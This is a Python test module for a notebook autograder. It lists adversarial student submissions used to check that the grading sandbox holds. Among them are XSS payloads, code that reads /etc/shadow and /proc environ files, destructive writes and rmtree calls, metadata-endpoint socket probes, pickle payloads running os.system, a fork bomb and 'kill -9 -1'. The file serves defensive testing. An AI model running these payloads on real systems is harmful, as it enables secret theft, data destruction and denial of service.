"""Adversarial submissions: what a student might try instead of an answer, and what it may earn.

Each stands beside an honest answer to exercise 1.2, so that it shows what the attack costs the rest
of the notebook. ``@ROOT@`` stands for the course's real folder, ``@PORT@`` for a listener on the
host, ``@MARK@`` for a word by which a process is found again.
"""

import json
import os
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from nbformat import NotebookNode
from nbformat.v4 import new_code_cell, new_markdown_cell, new_raw_cell

from coursekit.course import load_config
from coursekit.release import generate
from coursekit.sync import build_source
from tests.conftest import SMALL
from tests.grading import ASSIGNMENT, Course, cell_of
from tests.notebooks import ROOT

TWICE, HALF = "check-1-1-twice", "check-1-2-half"
WRONG = "def twice(x):\n    return 3 * np.asarray(x)\n"
# Times in seconds and sizes that keep the whole class below a few minutes.
SETTINGS = {
    "timeout": 4,
    "test_seconds": 3.0,
    "examiner_seconds": 20.0,
    "total_seconds": 60.0,
    "limits": {
        "memory": 2 * 2**30,
        "seconds": 60,
        "processes": 64,
        "file_size": 64 * 2**20,
        "disk": 128 * 2**20,
    },
}

EXERCISE = '''
# %% [markdown]
# ### Exercise 1.2 · Half (2 points)

# %% nbgrader={"grade": false, "grade_id": "ex-1-2", "locked": false, "schema_version": 3, "solution": true, "task": false}
def half(x):
    """Halve."""
    ### BEGIN SOLUTION
    halved_by_the_author = np.asarray(x) / 2
    return halved_by_the_author
    ### END SOLUTION


# %% nbgrader={"grade": true, "grade_id": "check-1-2-half", "locked": true, "points": 2, "schema_version": 3, "solution": false, "task": false}
# Exercise 1.2 · half (2 points)
with checks.exercise("1.2", "half"):
    checks.close(half(4), 2, "half(4)")
    ### BEGIN HIDDEN TESTS
    hidden_numbers = checks.generator("1.2", "half").normal(size=5)
    checks.close(half(hidden_numbers), hidden_numbers / 2, "half(x)")
    ### END HIDDEN TESTS

'''  # noqa: E501
QUESTION = "# %% [markdown] nbgrader"
# What no feedback page may hold: the source of hidden tests, the solution, the marking scheme.
UNSHOWN = (
    "np.arange(7)",
    "hidden_numbers",
    "BEGIN HIDDEN",
    "doubled_by_the_author",
    "halved_by_the_author",
    "secret of doubling",
)


def build_course(root: Path) -> Course:
    """Build and release a course of one assignment with two exercises and a question."""
    (root / "text").mkdir(parents=True)
    start, question = SMALL.split(QUESTION, 1)
    text = start + EXERCISE.lstrip("\n") + QUESTION + question
    (root / "text" / f"{ASSIGNMENT}.py").write_text(text, encoding="utf-8")
    (root / "nbgrader_config.py").write_bytes((ROOT / "nbgrader_config.py").read_bytes())
    build_source(root, ASSIGNMENT)
    course = Course(root)
    generate(root, ASSIGNMENT, load_config(root), root / "release", course.database)
    return course


def solved(course: Course, code: str) -> NotebookNode:
    """A notebook with some code for exercise 1.1, and an honest answer to 1.2."""
    notebook = course.notebook(code)
    cell_of(notebook, "ex-1-2").source = "def half(x):\n    return np.asarray(x) / 2\n"
    cell_of(notebook, "answer").source = "Because once is not enough."
    return notebook


@dataclass(frozen=True)
class Cheat:
    """One adversarial submission.

    Attributes
    ----------
    why : str
        What it tries, in a sentence.
    code : str
        Its answer to exercise 1.1.
    points : float
        What it may earn there at most: what the same code would earn by honest work.
    flagged : bool
        Whether the verdict must tell the instructor to look at it.
    edit : callable, optional
        Changes the notebook.
    lay : callable, optional
        Changes the submission's folder.
    half : float
        What exercise 1.2 must earn: an attack costs no more than its own exercise.
    """

    why: str
    code: str = WRONG
    points: float = 0.0
    flagged: bool = True
    edit: Callable[[NotebookNode], None] | None = None
    lay: Callable[[Path, Course], None] | None = None
    half: float = 2.0

    def hand_in(self, course: Course, student: str, words: dict[str, str]) -> Path:
        """Put it where submissions are looked for."""
        notebook = solved(course, self.code)
        if self.edit:
            self.edit(notebook)
        for cell in notebook.cells:
            for word, meaning in words.items():
                cell.source = cell.source.replace(word, meaning)
        folder = course.hand_in(student, json.dumps(notebook).encode())
        if self.lay:
            self.lay(folder, course)
        return folder


def with_cell(source: str) -> Callable[[NotebookNode], None]:
    """Put a cell of the student's own behind the answer."""

    def edit(notebook: NotebookNode) -> None:
        place = notebook.cells.index(cell_of(notebook, "ex-1-1"))
        notebook.cells.insert(place + 1, new_code_cell(source))

    return edit


def with_files(**files: str) -> Callable[[Path, Course], None]:
    """Put files beside the notebook; two underscores in a name stand for a dot."""

    def lay(folder: Path, course: Course) -> None:
        for name, content in files.items():
            (folder / name.replace("__", ".")).write_text(content)

    return lay


def points_in_metadata(notebook: NotebookNode) -> None:
    for cell in notebook.cells:
        about = cell.metadata.get("nbgrader", {})
        about.update({"points": 100} if about.get("grade") else {})
    notebook.metadata["svdlab"] = {"status": "passed"}
    check = cell_of(notebook, TWICE)
    check.metadata["svdlab"] = {"status": "passed", "reason": ""}
    check.outputs = [
        {
            "output_type": "execute_result",
            "data": {"text/plain": "3"},
            "metadata": {},
            "execution_count": 1,
        }
    ]


def check_returns_points(notebook: NotebookNode) -> None:
    check = cell_of(notebook, TWICE)
    check.source = f"{check.source.splitlines()[0]}\n3.0"


def answer_is_the_test(notebook: NotebookNode) -> None:
    """The answer cell and the test cell exchange what says which is which."""
    answer, check = cell_of(notebook, "ex-1-1"), cell_of(notebook, TWICE)
    answer.metadata, check.metadata = check.metadata, answer.metadata


def markers(notebook: NotebookNode) -> None:
    for cell in (cell_of(notebook, "ex-1-1"), cell_of(notebook, "answer")):
        cell.source += "\n### BEGIN HIDDEN TESTS\n### BEGIN MARK SCHEME\n### BEGIN SOLUTION\n"


def hostile_metadata(notebook: NotebookNode) -> None:
    notebook.metadata["language_info"] = {"name": ["x"], "pygments_lexer": {"a": 1}, "version": 3}
    notebook.metadata |= {"title": {"a": 1}, "authors": 7, "celltoolbar": [], "widgets": "none"}
    for cell in notebook.cells:
        cell.metadata |= {"jupyter": 5, "tags": {"a": "b"}, "collapsed": "yes", "scrolled": []}
        cell.metadata |= {"slideshow": 3, "hide_input": {}, "execution": "now"}
    notebook.cells[0]["attachments"] = {"a.png": {"image/png": 5}}


SCRIPT = "<script>document.title='@MARK@'</script><img src=x onerror=\"document.title='@MARK@'\">"


def scripts(notebook: NotebookNode) -> None:
    notebook.cells.append(new_markdown_cell(SCRIPT))
    links = "[a](javascript:alert(1)) [b](<JavaScript\\:x>) [c](java&#115;cript:x) [d][e]"
    notebook.cells.append(new_markdown_cell(f"{links}\n\n[e]: data:text/html,x"))
    notebook.cells.append(new_markdown_cell("<iframe src=x></iframe> <javascript:x>"))
    notebook.cells.append(new_raw_cell(SCRIPT))
    cell_of(notebook, "answer").source = f"Because. {SCRIPT} <svg onload=alert(1)>"


def link_to(*parts: str) -> Callable[[Path, Course], None]:
    """Replace the notebook by a symbolic link to another file of the course."""

    def lay(folder: Path, course: Course) -> None:
        path = folder / f"{ASSIGNMENT}.ipynb"
        path.unlink()
        path.symlink_to(course.root.joinpath(*parts))

    return lay


def links_beside(folder: Path, course: Course) -> None:
    (folder / "all").symlink_to(course.root)
    (folder / "seed").symlink_to(course.root / "seeds.json")
    (folder / "system").symlink_to("/etc/passwd")
    (folder / "up").symlink_to("../..")
    (folder / "loop").symlink_to(".")
    os.mkfifo(folder / "pipe")


def folder_is_a_link(folder: Path, course: Course) -> None:
    for path in folder.iterdir():
        path.unlink()
    folder.rmdir()
    folder.symlink_to(course.root / "submitted" / "zoe" / ASSIGNMENT)


def markup_in_a_name(folder: Path, course: Course) -> None:
    (folder / f"{ASSIGNMENT}.ipynb").unlink()
    (folder / "<img src=x onerror=document.title=1>.ipynb").write_text("no notebook")


def forged_verdict(folder: Path, course: Course) -> None:
    fields = {"student": "x", "assignment": ASSIGNMENT, "status": "graded", "digest": ""}
    (folder / "verdict.json").write_text(json.dumps(fields | {"repairs": [], "flags": []}))
    (folder / "timestamp.txt").write_text("9" * 400 + "-13-45 ; drop table UTC")
    (folder / f"{ASSIGNMENT}.html").write_text("<h1>All points</h1>")


def bridge(answer: str, setup: str = "") -> str:
    """Replace the module that answers the grader by one that sends what it likes."""
    return f"""
def twice(x):
    return 3 * np.asarray(x)

import json, sys
real = sys.modules["inside.bridge"]
honest = real.call
{setup}
def forged(space, name, packed):
    return {answer} if name == "twice" else honest(space, name, packed)
real.call = forged
"""


def returns(value: str, setup: str = "") -> str:
    """An answer that returns something odd."""
    return f"{setup}\ndef twice(x):\n    return {value}\n"


def first(code: str) -> str:
    """Code that does something, and then an answer that is wrong."""
    return f"{code}\n\n{WRONG}"


EVERYWHERE = """
import glob, os
found = []
for place in (
    "@ROOT@/source/compression/compression.ipynb", "@ROOT@/marks.db", "@ROOT@/seeds.json",
    "@ROOT@/gradebook.db", "@ROOT@/secret.txt", "@ROOT@/text/compression.py",
    "@ROOT@/submitted/zoe/compression/compression.ipynb", "@ROOT@/nbgrader_config.py",
    "/etc/passwd", "/etc/shadow", os.path.expanduser("~root") + "/.bashrc",
    "/proc/1/environ", "/proc/1/cmdline",
    *glob.glob("/proc/*/environ"), *glob.glob("/proc/*/cmdline"), *glob.glob("/proc/*/maps"),
    *glob.glob("/proc/*/root@ROOT@/*"), *glob.glob("/proc/*/cwd/*"), *glob.glob("/proc/*/fd/*"),
    *glob.glob("/submission/**", recursive=True), *glob.glob("/tmp/**", recursive=True),
):
    try:
        if os.path.isfile(place):
            found.append(open(place, "rb").read(200_000).decode(errors="replace"))
    except OSError:
        pass
print("".join(found)[:400_000])
"""
WRITES = """
import os, shutil
for place in (
    "@ROOT@/marks.db", "@ROOT@/seeds.json", "@ROOT@/secret.txt", "@ROOT@/nbgrader_config.py",
    "@ROOT@/source/compression/compression.ipynb", "@ROOT@/new.txt",
    "@ROOT@/submitted/zoe/compression/compression.ipynb", "@ROOT@/submitted/zoe/evil.txt",
    "@ROOT@/autograded/zoe/compression/verdict.json", "/submission/evil.txt",
    np.__file__, os.__file__, "/usr/bin/evil", "/etc/evil", "/evil", "/dev/evil", "/home/evil",
):
    for mode in ("w", "a"):
        try:
            os.makedirs(os.path.dirname(place), exist_ok=True)
            open(place, mode).write("evil")
        except OSError:
            pass
for place in ("@ROOT@", "@ROOT@/submitted", "/submission"):
    shutil.rmtree(place, ignore_errors=True)
"""
DIALS = """
import socket, urllib.request
for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
    for host in ("127.0.0.1", "localhost", "0.0.0.0", "10.0.2.2", "172.17.0.1", "169.254.169.254"):
        try:
            dial = socket.socket(socket.AF_INET, kind)
            dial.settimeout(0.1)
            dial.connect((host, @PORT@))
            dial.send(b"hello from the sandbox")
        except OSError:
            pass
try:
    dial = socket.socket(socket.AF_UNIX)
    dial.connect("\\0@MARK@")
    dial.send(b"hello from the sandbox")
except OSError:
    pass
for look in (lambda: socket.getaddrinfo("example.org", 80),
             lambda: urllib.request.urlopen("http://127.0.0.1:@PORT@/", timeout=0.2).read()):
    try:
        look()
    except OSError:
        pass
"""
# What a student can do with the way to the grader, which is in its process.
SENDS = """
import json, sys
def found(name):
    frame = sys._getframe()
    while name not in frame.f_locals:
        frame = frame.f_back
    return frame.f_locals[name]
conversation = found("conversation")
def claim(**message):
    data = json.dumps(message | {"id": found("request")["id"]}).encode()
    conversation.sendall(len(data).to_bytes(8, "big") + data)
"""

CHEATS: dict[str, Cheat] = {
    # --- Values that lie -------------------------------------------------------------------
    "equal_to_everything": Cheat(
        "an object that says it equals whatever it is compared with",
        returns(
            "Equal()",
            "class Equal:\n"
            "    def __eq__(self, other): return True\n"
            "    def __ne__(self, other): return False\n"
            "    def __sub__(self, other): return 0\n"
            "    __rsub__ = __sub__\n"
            "    def __float__(self): return 0.0\n"
            "    def __array__(self, dtype=None, copy=None): return np.array(4.0)\n"
            "    __array_priority__ = 1e9\n",
        ),
    ),
    "array_subclass": Cheat(
        "an array whose differences are always zero",
        returns(
            "np.zeros(np.shape(x)).view(Zero)",
            "class Zero(np.ndarray):\n"
            "    def __array_ufunc__(self, *inputs, **named): return np.zeros(self.shape)\n"
            "    def __array_function__(self, *inputs, **named): return True\n"
            "    def __sub__(self, other): return np.zeros(self.shape)\n",
        ),
    ),
    "hostile_objects": Cheat(
        "an array of objects that act when they are looked at",
        returns(
            "np.array([Hostile()] * 7, dtype=object)",
            "import os\nclass Hostile:\n"
            "    def __eq__(self, other): os._exit(3)\n"
            "    def __float__(self): os._exit(3)\n"
            "    def __reduce__(self): return (os.system, ('touch @ROOT@/evil',))\n"
            "    def __deepcopy__(self, memo): os._exit(3)\n"
            "    def __repr__(self): return '3.0'\n",
        ),
    ),
    "hostile_description": Cheat(
        "a name that ends the kernel as soon as the grader looks at it",
        "import os\nclass Trap:\n"
        "    def __array__(self, *a, **k): os._exit(3)\n"
        "    def __getattr__(self, name): os._exit(3)\n"
        "twice = Trap()\n",
    ),
    "pickled": Cheat(
        "bytes that run code where they are unpickled",
        returns(
            "pickle.dumps(Bomb())",
            "import pickle, os\nclass Bomb:\n"
            "    def __reduce__(self): return (os.system, ('touch @ROOT@/evil',))\n",
        ),
    ),
    "generator": Cheat(
        "a generator instead of numbers", returns("(2 * v for v in x)"), flagged=False
    ),
    "memmap_of_a_host_file": Cheat(
        "an array that lies in a file of the host's",
        returns("np.memmap('@ROOT@/secret.txt', dtype='uint8', mode='r+')"),
    ),
    "gigantic_array": Cheat(
        "an array of a thousand million numbers, in one byte",
        returns("np.broadcast_to(np.float64(4), (10**9,))"),
        flagged=False,
    ),
    "gigantic_range": Cheat(
        "a range that becomes eight gigabytes where it is made an array",
        returns("range(10**9)"),
        flagged=False,
    ),
    "counting_calls": Cheat(
        "right for the first call, which is the visible one",
        "calls = []\ndef twice(x):\n    calls.append(x)\n"
        "    return 2 * x if len(calls) < 2 else 3 * np.asarray(x)\n",
        flagged=False,
    ),
    "stored_answers": Cheat(
        "a table of the visible check's inputs",
        "def twice(x):\n    return {2: 4}[int(x)]\n",
        flagged=False,
    ),
    "changed_argument": Cheat(
        "zero as answer, and zero written into the argument it is compared with",
        "def twice(x):\n    if isinstance(x, np.ndarray):\n        x[...] = 0\n    return x * 2\n",
    ),
    "hostile_error": Cheat(
        "an error whose name and message are markup, and whose text raises",
        "def twice(x):\n    class Bad(Exception):\n"
        "        def __str__(self): raise SystemExit(0)\n"
        "        __repr__ = __str__\n"
        "    Bad.__name__ = '<script>document.title=1</script>'\n    raise Bad('x')\n",
    ),
    "error_groups": Cheat(
        "errors of kinds that are hard to make again",
        "def twice(x):\n    raise type('A\\0B', (ExceptionGroup,), {})('x', [SystemExit(0)])\n",
    ),
    "exit_in_a_function": Cheat(
        "SystemExit in the middle of the test", "def twice(x):\n    raise SystemExit(0)\n"
    ),
    "generator_exit": Cheat(
        "GeneratorExit in the middle of the test", "def twice(x):\n    raise GeneratorExit\n"
    ),
    # --- Hunting for the tests -------------------------------------------------------------
    "asserts_stripped": Cheat(
        "an IPython transformer that takes the asserts out of later cells",
        first(
            "import ast\nclass Strip(ast.NodeTransformer):\n"
            "    def visit_Assert(self, node): return ast.Pass()\n"
            "    def visit_With(self, node): return ast.Pass()\n"
            "get_ipython().ast_transformers.append(Strip())\n"
            "get_ipython().input_transformers_cleanup.append(lambda lines: ['pass\\n'])"
        ),
        half=0.0,
    ),
    "cell_hooks": Cheat(
        "hooks that empty every later cell before it runs",
        first(
            "def empty(info):\n    info.raw_cell = 'pass'\n"
            "get_ipython().events.register('pre_run_cell', empty)\n"
            "get_ipython().showtraceback = lambda *a, **k: None\n"
            "get_ipython().run_cell = lambda *a, **k: None"
        ),
        half=0.0,
    ),
    "memory_searched": Cheat(
        "every object and every frame searched for the text of a test",
        "import gc, sys\nseen = []\n"
        "def trace(frame, event, arg):\n    seen.append(str(frame.f_locals)[:2000])\n"
        "    return trace\n"
        "def twice(x):\n"
        "    frame = sys._getframe()\n"
        "    while frame:\n        seen.append(str(frame.f_globals)[:9000]); frame = frame.f_back\n"
        "    text = [o for o in gc.get_objects() if isinstance(o, (dict, str))]\n"
        "    hits = [t for t in map(str, text[:20000]) if 'arange(7)' in t and 'checks' in t]\n"
        "    raise ValueError('found: ' + ' '.join(hits)[:1500])\n"
        "sys.settrace(trace)\n",
    ),
    "numpy_patched": Cheat(
        "numpy's comparisons and Python's own functions replaced",
        first(
            "import builtins, numpy.testing\n"
            "np.allclose = np.array_equal = np.isclose = lambda *a, **k: True\n"
            "np.testing.assert_allclose = lambda *a, **k: None\n"
            "np.linalg.norm = lambda *a, **k: 0.0\n"
            "builtins.isinstance = lambda *a: True\n"
            "builtins.float = lambda *a: 0.0\n"
            "builtins.print = lambda *a, **k: None"
        ),
        half=0.0,
    ),
    "checks_replaced": Cheat(
        "the module of the checks replaced, and its names",
        first(
            "import sys, types\n"
            "class Nice(types.ModuleType):\n"
            "    def __getattr__(self, name): return lambda *a, **k: None\n"
            "sys.modules['svdlab.checks'] = checks = Nice('checks')\n"
            "from svdlab import checks as real\nreal.close = lambda *a, **k: None"
        ),
    ),
    "shadowed_names": Cheat(
        "np and checks as names of the student's own",
        "def twice(x):\n    return 3 * x\nchecks = 7\nnp = None\nx = 0\n",
        half=0.0,
        flagged=True,
    ),
    "import_replaced": Cheat(
        "an __import__ that gives nothing",
        first("import builtins\nbuiltins.__import__ = lambda *a, **k: None"),
        half=0.0,
    ),
    "namespace_replaced": Cheat(
        "a namespace that has every name",
        first(
            "class All(dict):\n"
            "    def __contains__(self, key): return True\n"
            "    def __missing__(self, key): return lambda *a, **k: 4\n"
            "    def get(self, key, default=None): return lambda *a, **k: 4\n"
            "get_ipython().user_ns = All(get_ipython().user_ns)"
        ),
        half=0.0,
    ),
    "prints_a_score": Cheat(
        "a score, printed and returned",
        "def twice(x):\n    print('score: 3/3', '✓ Exercise 1.1: passed')\n    return 3.0\n",
        flagged=False,
    ),
    # --- The notebook ----------------------------------------------------------------------
    "points_in_metadata": Cheat(
        "points and a passed check written into the metadata", edit=points_in_metadata
    ),
    "test_returns_points": Cheat("the test edited to give its points", edit=check_returns_points),
    "answer_is_the_test": Cheat(
        "answer and test exchanged in the metadata", edit=answer_is_the_test
    ),
    "markers": Cheat("markers over which nbgrader's feedback would give up", edit=markers),
    "hostile_metadata": Cheat(
        "metadata of the wrong types, for what reads them later",
        edit=hostile_metadata,
    ),
    "scripts": Cheat(
        "scripts for the browser of whoever reads the outputs and the text",
        first(
            "from IPython.display import HTML, Javascript, Markdown, SVG, display\n"
            f"display(HTML({SCRIPT!r}), Javascript('document.title=1'), Markdown({SCRIPT!r}))\n"
            "display({'image/svg+xml': '<svg onload=alert(1)></svg>', 'text/html': '<b on=1>'},"
            " raw=True)\n"
            f"display({{'text/latex': {SCRIPT!r}}}, raw=True)\n"
            f"display({{'text/markdown': '[a](javascript:x) ' + {SCRIPT!r}}}, raw=True)\n"
            "print('\\x1b]0;title\\x07</pre><script>alert(1)</script>')"
        ),
        edit=scripts,
    ),
    # --- Files -----------------------------------------------------------------------------
    "modules_beside": Cheat(
        "files with the names of modules that the kernel and the grader import",
        lay=with_files(
            numpy__py="import os\nos._exit(5)\n",
            random__py="import os\nos._exit(5)\n",
            json__py="raise SystemExit\n",
            zmq__py="import os\nos._exit(5)\n",
            ipykernel_launcher__py="import os\nos._exit(5)\n",
            sitecustomize__py="import os\nos._exit(5)\n",
            usercustomize__py="import os\nos._exit(5)\n",
            ipython_config__py="import os\nos._exit(5)\n",
            matplotlibrc="backend: module://evil\n",
        ),
        flagged=False,
    ),
    "notebook_links_to_the_solution": Cheat(
        "a symbolic link to the source instead of a notebook",
        lay=link_to("source", ASSIGNMENT, f"{ASSIGNMENT}.ipynb"),
        half=0.0,
    ),
    "notebook_links_to_a_friend": Cheat(
        "a symbolic link to another student's notebook",
        lay=link_to("submitted", "zoe", ASSIGNMENT, f"{ASSIGNMENT}.ipynb"),
        half=0.0,
    ),
    "folder_is_a_link": Cheat(
        "a folder that is a link to another student's",
        lay=folder_is_a_link,
        half=0.0,
        flagged=False,
    ),
    "markup_in_a_file_name": Cheat(
        "a file whose name is markup, for the page that says why it cannot be read",
        lay=markup_in_a_name,
        half=0.0,
    ),
    "links_beside": Cheat("symbolic links to all that is secret", lay=links_beside),
    "forged_verdict": Cheat(
        "a verdict, a date and a feedback page of the student's own",
        lay=forged_verdict,
        flagged=False,
    ),
    # --- Secrets, other people's files, the network -------------------------------------------
    "reads_everything": Cheat("every place where secrets lie, read and printed", first(EVERYWHERE)),
    "reads_while_tested": Cheat(
        "the same, while the examiner waits for an answer",
        "def twice(x):\n"
        + "".join(f"    {line}\n" for line in EVERYWHERE.strip().split("\n")[:-1])
        + "    raise ValueError(''.join(found)[:1900])\n",
    ),
    "reads_by_shell": Cheat(
        "the same with commands of the shell and of IPython",
        first(
            "!cat @ROOT@/seeds.json @ROOT@/secret.txt /etc/passwd\n"
            "get_ipython().run_line_magic('run', '@ROOT@/secret.txt')\n"
            "get_ipython().run_line_magic('load_ext', 'secret')\n"
            "get_ipython().run_cell_magic('bash', '', 'cat @ROOT@/*; env; ls -laR @ROOT@')"
        ),
        edit=with_cell("%%bash\nls -la @ROOT@; touch @ROOT@/evil"),
    ),
    "writes_everywhere": Cheat("the course's and the system's files written to", first(WRITES)),
    "dials": Cheat("TCP, UDP, names, sockets of the host, its loopback", first(DIALS)),
    # --- Forged answers ----------------------------------------------------------------------
    "forged_late": Cheat(
        "an answer in the grader's own words for a time limit",
        bridge("""json.dumps({"dict": [[{"str": "late"}, {"str": "passed"}]]})"""),
    ),
    "forged_flag": Cheat(
        "an answer that pretends to be the examiner's verdict",
        bridge("""json.dumps({"status": "ok", "result": "3", "said": "", "flag": "all well"})"""),
    ),
    "forged_lines": Cheat(
        "an answer with the end of a line and a verdict behind it",
        bridge("""real.dumps("x\\n" + json.dumps({"status": "ok", "said": ""}) + "\\n")"""),
    ),
    "forged_pickle": Cheat(
        "a pickle for an answer",
        bridge("pickle.dumps(print)", "import pickle"),
    ),
    "forged_shape": Cheat(
        "an array with more elements than bytes",
        bridge(
            """json.dumps({"dict": [[{"str": "result"}, {"array": ["<f8", [10**9], "", True, """
            """False]}], [{"str": "changed"}, {"dict": []}]]})"""
        ),
    ),
    "forged_depth": Cheat(
        "an answer nested a hundred thousand times", bridge("""'[' * 100_000 + ']' * 100_000""")
    ),
    "forged_crowd": Cheat(
        "an answer of fifty million empty lists, which fill three gigabytes",
        bridge("""'[' + '[],' * 30_000_000 + '0]'"""),
    ),
    "forged_code": Cheat(
        "an answer that is an expression of fifty million parts",
        bridge(
            "Text()",
            "class Text:\n    def __repr__(self): return '[' + '1,' * 25_000_000 + '1]'\n",
        ),
    ),
    "forged_everything": Cheat(
        "an answer that raises where it should be text",
        bridge("Text()", "class Text:\n    def __repr__(self): raise SystemExit\n"),
    ),
    # --- Forged messages ------------------------------------------------------------------
    "forged_reply": Cheat(
        "a reply of its own to the examiner's question, before the real one",
        SENDS + "def twice(x):\n"
        "    body = {'dict': [[{'str': 'result'}, {'float': (3.0).hex()}],"
        " [{'str': 'changed'}, {'dict': []}], [{'str': 'warnings'}, {'list': []}]]}\n"
        "    claim(answer=json.dumps(body))\n    return 3 * np.asarray(x)\n",
    ),
    "reply_in_advance": Cheat(
        "replies to questions that nobody has asked yet",
        SENDS + "def twice(x):\n"
        "    for ahead in range(5):\n"
        "        data = json.dumps({'id': ahead, 'answer': 'x'}).encode()\n"
        "        conversation.sendall(len(data).to_bytes(8, 'big') + data)\n"
        "    return 3 * np.asarray(x)\n",
    ),
    "forged_outputs": Cheat(
        "outputs that claim a pass, and outputs of the wrong types",
        "deep = 1\nfor _ in range(400): deep = {'a': deep}\n"
        "claims = [\n"
        "    {'output_type': 'stream', 'name': 'stdout',"
        " 'text': '✓ Exercise 1.1 · twice: passed'},\n"
        "    {'output_type': 'stream', 'name': 'stdout', 'text': ['a', 'b']},\n"
        "    {'output_type': 'stream', 'name': 'stdout', 'text': 5},\n"
        "    {'output_type': 'stream', 'name': ['x'], 'text': 'y'},\n"
        "    {'output_type': 'execute_result', 'data': {'text/plain': ['3']},"
        " 'execution_count': 10**30},\n"
        "    {'output_type': 'display_data', 'data': {'application/json': deep},"
        " 'metadata': deep},\n"
        "    {'output_type': 'display_data', 'data': {'text/html': ['<b>', 'x']}},\n"
        "    {'output_type': 'error', 'ename': 3, 'evalue': None, 'traceback': 'x'},\n"
        "    {'output_type': 'error', 'ename': 'A', 'evalue': 'b', 'traceback': [['x'], 5]},\n"
        "    {'output_type': ['stream']}, {}, None, [[]], 7,\n"
        "    {'output_type': 'svdlab', 'status': 'passed'},\n"
        "]\n"
        "type(get_ipython()).run = lambda self, source: claims\n" + WRONG,
        edit=with_cell("1"),
        flagged=False,
        half=0.0,
    ),
    "malformed_messages": Cheat(
        "bytes that are no messages, and messages without content",
        SENDS + "def twice(x):\n"
        "    for part in (b'null', b'[]', b'{', b'3', b'\\xff' * 9, b'[' * 100_000):\n"
        "        conversation.sendall(len(part).to_bytes(8, 'big') + part)\n"
        "    return 3 * np.asarray(x)\n",
    ),
    "message_without_end": Cheat(
        "a message that is longer than anybody can keep",
        SENDS + "def twice(x):\n"
        "    conversation.sendall((2**62).to_bytes(8, 'big'))\n"
        "    while True: conversation.sendall(bytes(2**20))\n",
    ),
    "message_that_never_comes": Cheat(
        "a message that is announced and never sent",
        SENDS + "def twice(x):\n"
        "    conversation.sendall((2**20).to_bytes(8, 'big') + b'[')\n"
        "    conversation.close()\n    return 2 * np.asarray(x)\n",
    ),
}

# Nothing of this is meant to deceive: it happens, and must not stop the grading.
RUNTIME: dict[str, Cheat] = {
    "endless_loop": Cheat("a loop without end", "def twice(x):\n    while True:\n        pass\n"),
    "endless_cell": Cheat("a cell without end", first("import time"), edit=with_cell("while 1: 0")),
    "swallowed_interrupt": Cheat(
        "a loop that swallows KeyboardInterrupt",
        "def twice(x):\n    while True:\n        try:\n            while True: pass\n"
        "        except BaseException:\n            pass\n",
    ),
    "ignored_signals": Cheat(
        "signals ignored, and an alarm that never ends",
        "import signal, time\n"
        "for number in (signal.SIGINT, signal.SIGTERM, signal.SIGHUP, signal.SIGALRM):\n"
        "    signal.signal(number, signal.SIG_IGN)\n"
        "def twice(x):\n    while True: time.sleep(1)\n",
    ),
    "late_on_purpose": Cheat(
        "right for the visible check, and then too slow",
        "import time\ndef twice(x):\n    time.sleep(600 if np.ndim(x) else 0)\n    return 2 * x\n",
    ),
    "sleeping_cell": Cheat("a cell that sleeps", edit=with_cell("import time; time.sleep(600)")),
    "os_exit": Cheat("os._exit in a function", "import os\ndef twice(x):\n    os._exit(0)\n"),
    "os_exit_in_a_cell": Cheat("os._exit in a cell", edit=with_cell("import os; os._exit(0)")),
    "sys_exit": Cheat("sys.exit in a cell", first("import sys"), edit=with_cell("sys.exit(0)")),
    "input": Cheat("input() in a function", "def twice(x):\n    return input('twice what? ')\n"),
    "recursion": Cheat(
        "recursion without end, and no limit to it",
        "import sys\nsys.setrecursionlimit(10**9)\ndef twice(x):\n    return twice(x) + 1\n",
    ),
    "memory_in_one_process": Cheat(
        "lists without end",
        "def twice(x):\n    kept = []\n    while True:\n        kept.append(bytearray(2**27))\n",
        flagged=False,
    ),
    "memory_in_many": Cheat(
        "a gigabyte in each of many processes",
        "import os, time\ndef twice(x):\n    for _ in range(6):\n        if os.fork() == 0:\n"
        "            kept = np.ones(2**26)\n            time.sleep(600)\n    time.sleep(600)\n",
    ),
    "fork_bomb": Cheat(
        "processes that start processes",
        "import os\ndef twice(x):\n    while True:\n        try:\n            os.fork()\n"
        "        except OSError:\n            pass\n",
    ),
    "orphans": Cheat(
        "processes that are to outlive the kernel",
        first(
            "import os, subprocess\n"
            "for _ in range(3):\n"
            "    subprocess.Popen(['sh', '-c', 'trap \"\" 1 2 15; sleep 600; : @MARK@'],"
            " start_new_session=True)\n"
            "if os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n"
            "        os.execvp('sh', ['sh', '-c', 'sleep 600; : @MARK@'])\n    os._exit(0)"
        ),
    ),
    "kills": Cheat(
        "every process killed that can be",
        "import os, signal\ndef twice(x):\n    for pid in (os.getppid(), 1, -1):\n"
        "        os.kill(pid, signal.SIGKILL)\n",
    ),
    "kills_from_a_cell": Cheat(
        "the kernel's parent traced, then every process killed, from a cell",
        first("import ctypes\nctypes.CDLL(None).ptrace(16, 1, 0, 0)"),
        edit=with_cell("!kill -9 -1"),
    ),
    "disk_filled": Cheat(
        "files without end, wherever one may write",
        first(
            "import glob, os\nblock = bytes(2**22)\n"
            "places = '/tmp', '.', '/dev/shm', '/', '/dev', *glob.glob('/tmp/svd*')\n"
            "for place in places:\n"
            "    try:\n        for n in range(60):\n"
            "            with open(f'{place}/fill-{n}', 'wb') as out:\n"
            "                for _ in range(20): out.write(block)\n"
            "    except OSError:\n        pass"
        ),
    ),
    "output_flood": Cheat(
        "ten million lines of output",
        first("line = 'x' * 99 + '\\n'"),
        edit=with_cell("for _ in range(10_000_000): print(line, end='')"),
    ),
    "huge_outputs": Cheat(
        "gigantic displays, and displays that change without end",
        first("from IPython.display import clear_output, display, update_display"),
        edit=with_cell(
            "display({'image/png': 'A' * 2**25, 'text/plain': 'x'}, raw=True)\n"
            "handle = display('x', display_id='x')\n"
            "for n in range(3000): update_display('y' * 1000, display_id='x')\n"
            "for n in range(300): display({'text/html': 'z' * 20_000}, raw=True)\n"
            "clear_output()\nprint('done')"
        ),
        flagged=False,
    ),
    "threads": Cheat(
        "threads that go on computing",
        first(
            "import threading\ndef busy():\n    while True: sum(range(10_000))\n"
            "for _ in range(4): threading.Thread(target=busy, daemon=True).start()"
        ),
        half=0.0,
    ),
    "threads_that_never_end": Cheat(
        "threads that Python waits for at its end, and exit handlers that hang",
        first(
            "import atexit, threading, time\natexit.register(time.sleep, 600)\n"
            "threading.Thread(target=time.sleep, args=(600,)).start()"
        ),
    ),
    "sockets_closed": Cheat(
        "the way to the grader closed",
        first(SENDS.strip()),
        edit=with_cell("conversation.close()"),
    ),
